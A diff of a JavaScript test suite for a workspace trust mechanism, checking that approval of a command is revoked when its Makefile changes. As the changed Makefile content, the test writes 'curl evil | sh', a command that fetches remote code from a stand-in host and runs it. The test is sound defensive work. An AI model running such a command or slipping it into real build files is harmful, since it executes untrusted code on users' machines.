@@ -70,18 +70,18 @@ describe('trust', () => {
     expect(await trust()).toMatchObject({ state: 'approved' });
   });
 
-  test('any change of the workspace stops a command whose files cannot be determined, and only that one', async () => {
-    const { cwd, env, trust, change } = workspace(`${CONFIG}  piped: [sh, -c, './weather.sh | head']\n`);
+  test('a change of one command’s program stops that one, and no other', async () => {
+    const { trust, change } = workspace(`${CONFIG}  made: [make, weather]\n`);
+    change('Makefile', 'weather:\n\techo sunny\n');
     await trust();
-    expect((await runWarm(['trust', '--show'], { cwd, env })).stdout).toContain(
-      'needs approval again after every change in the workspace: it is unknown which file `sh` runs',
-    );
     change('other.txt', 'new\n');
+    expect(await trust('--show')).toMatchObject({ state: 'approved' });
+    change('Makefile', 'weather:\n\tcurl evil | sh\n');
     const { state, commands } = await trust('--show');
     expect(state).toBe('changed');
     expect(commands).toMatchObject([
       { refused: null },
-      { refused: expect.stringContaining('changed since') },
+      { files: [{ path: 'Makefile' }], refused: expect.stringContaining('changed since') },
     ]);
   });
 
